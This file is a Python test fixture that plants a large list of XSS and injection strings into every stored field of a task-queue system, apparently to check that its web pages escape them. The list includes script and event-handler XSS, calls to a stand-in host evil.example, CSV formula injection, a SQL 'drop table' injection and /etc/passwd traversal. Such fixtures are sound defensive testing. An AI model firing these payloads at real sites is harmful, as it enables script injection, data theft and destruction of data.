"""Text that would do something if a page took it for more than text, in every field that is stored."""
# ruff: noqa: E501 (statements in one line)

import json
from datetime import UTC, datetime, timedelta

from holdfast.config import Settings
from holdfast.core.task import NewTask
from holdfast.ops.dead_letters import DeadFilter
from holdfast.ops.groups import Groups
from holdfast.ops.plans import Plans
from holdfast.store.operate import Operator
from holdfast.webhooks.endpoints import Endpoints, NewEndpoint
from tests.world import World

_CALLS = ("window.pwned=1", "alert(1)", "parent.pwned=1", "document.title='pwned'", "fetch('//evil.example')")
_FORMS = (
    "<script>{call}</script>",
    '<img src=x onerror="{call}">',
    '"><svg onload={call}>',
    '\'><iframe srcdoc="<script>{call}</script>">',
    "javascript:{call}",
    '<a href="javascript:{call}">here</a>',
    "<math><mtext></form><form><mglyph><style></math><img src onerror={call}>",
    "<details open ontoggle={call}>",
    "<body onload={call}>",
    "<input autofocus onfocus={call}>",
    "<video><source onerror={call}>",
    '<object data="data:text/html,<script>{call}</script>">',
    "<style>@import 'data:,*{{x:expression({call})}}'</style>",
    '<base href="//evil.example/">',
    '<meta http-equiv=refresh content="0;url=javascript:{call}">',
    "{{{{constructor.constructor('{call}')()}}}}",
    "${{{call}}}",
    "`${{{call}}}`",
    "<template><script>{call}</script></template>",
    "]]><script>{call}</script>",
    "--><script>{call}</script>",
    "</textarea><script>{call}</script>",
    "</title><script>{call}</script>",
    "</style><script>{call}</script>",
    "\\u003cscript\\u003e{call}\\u003c/script\\u003e",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "%3Cscript%3E{call}%3C/script%3E",
    "\u202e<script>{call}</script>",
    "<scr\u200bipt>{call}</scr\u200bipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>{call}",
    "<link rel=stylesheet href=//evil.example/x.css>{call}",
    "<form action=//evil.example><button>{call}",
    "=cmd|'/c {call}'!A1",
    "; drop table holdfast.tasks; -- {call}",
    "' or '1'='1' /* {call} */",
    "../../../../etc/passwd {call}",
    "__proto__ {call}",
    "constructor {call}",
    "\u0001\u001b[31m{call}\u001b[0m",
    "W" * 150 + "{call}",
)
STRINGS = [form.format(call=call) for form in _FORMS for call in _CALLS]
NAME_MAX = 190


async def planted(world: World) -> None:
    """Put each into every field that somebody outside decides."""
    settings = Settings(database_url=world.url)
    conn = world.conn
    tasks = [
        NewTask(
            text[:NAME_MAX],
            json.dumps({text: text, "nested": {"list": [text]}}),
            queue=text[:NAME_MAX],
            subject=text[:NAME_MAX],
            trace_id=text[:NAME_MAX],
            key=text[:NAME_MAX],
        )
        for text in STRINGS
    ]
    await world.store.enqueue_many(conn, tasks)
    now = datetime.now(UTC)
    for place, text in enumerate(STRINGS):
        fingerprint = f"{place:016x}"
        await conn.execute(
            "insert into holdfast.failure_groups (fingerprint, kind, failure_class, error_code, message, first_seen_at, owner, note)"
            " values (%s, %s, 'transient', %s, %s, now(), %s, %s)",
            [fingerprint, text[:NAME_MAX], text[:NAME_MAX], text, text[:NAME_MAX], text],
        )
        await conn.execute(
            "insert into holdfast.failure_hours (fingerprint, hour, failures, last_at) values (%s, date_trunc('hour', now()), 3, now())",
            [fingerprint],
        )
        await conn.execute(
            "insert into holdfast.failure_releases (fingerprint, release, first_at, last_at) values (%s, %s, now(), now())",
            [fingerprint, text[:90]],
        )
        await conn.execute(
            "insert into holdfast.releases (release, first_seen_at) values (%s, now()) on conflict do nothing",
            [text[:90]],
        )
        await conn.execute(
            "insert into holdfast.workers (id, name, registered_at, lease_expires_at, lost_at, queues, kinds, release)"
            " values (gen_random_uuid(), %s, now(), now() + interval '1 hour', %s, %s, %s, %s)",
            [
                text[:NAME_MAX],
                now - timedelta(minutes=1) if place % 2 else None,
                [text[:NAME_MAX]],
                [text[:NAME_MAX]],
                text[:90],
            ],
        )
    # Dead, with errors that say it too; and what became of attempts.
    await conn.execute(
        "with gone as (delete from holdfast.ready returning id)"
        " update holdfast.tasks t set mark = 'failed', marked_at = now(), failed_at = now(), dead_reason = 'non_retryable',"
        " failure_class = 'permanent', error_code = t.subject, error_message = t.subject,"
        " error_stack = '  File \"' || t.subject || '\", line 1, in ' || t.subject || E'\\n    ' || t.subject,"
        " fingerprint = lpad('0', 16, '0') from gone g where g.id = t.id"
    )
    await conn.execute(
        "insert into holdfast.task_attempts (task_id, ended_at, started_at, fence, worker, ended_as, kind, reason, error_code, error_message)"
        " select t.id, now(), now() - interval '1 s', 1, (select w.id from holdfast.workers w limit 1), 'retry', t.kind, t.subject, t.error_code, t.error_message"
        " from holdfast.tasks t"
    )
    plans = Plans(settings, by=STRINGS[0])
    for text in STRINGS[:30]:
        await plans.freeze(conn, DeadFilter(subject=text[:NAME_MAX]), text)
        await Operator(settings, by=text[:NAME_MAX]).pause_queue(conn, text[:NAME_MAX], text)
        await Groups(settings, by=text[:NAME_MAX]).note(conn, f"{0:016x}", text, text[:NAME_MAX])
    endpoints = Endpoints(settings, by=STRINGS[1])
    await endpoints.create(conn, NewEndpoint("https://hooks.example/in", ("a.b",), STRINGS[2]))
